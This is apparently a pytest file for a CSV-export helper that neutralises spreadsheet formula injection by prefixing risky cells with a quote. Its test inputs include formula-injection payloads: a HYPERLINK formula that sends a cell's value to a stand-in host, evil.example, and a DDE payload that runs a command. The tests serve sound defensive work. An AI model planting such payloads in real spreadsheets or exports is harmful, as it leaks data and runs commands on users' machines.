"""CSV cells that a spreadsheet would run as a formula are written as text."""

from __future__ import annotations

import pytest

from web.spreadsheets import cell


@pytest.mark.parametrize("typed", [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
    "\t=1+2", "\r=1+2", "-", "=",
])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(typed: str) -> None:
    assert cell(typed) == "'" + typed


@pytest.mark.parametrize("value", ["-12.50", "+3", "-1,200.00", "-.5", "1e-3", "Ada = Countess", "", 42, -7, None])
def test_numbers_and_ordinary_text_are_left_alone(value: object) -> None:
    assert cell(value) == value
